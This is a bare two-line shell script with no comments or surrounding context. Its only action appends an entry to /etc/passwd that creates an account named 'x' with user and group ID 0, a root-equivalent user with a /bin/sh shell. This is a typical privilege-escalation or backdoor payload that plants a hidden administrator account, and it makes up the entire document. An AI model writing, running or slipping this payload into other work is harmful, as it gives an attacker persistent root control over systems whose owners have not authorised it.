#!/bin/sh
echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd
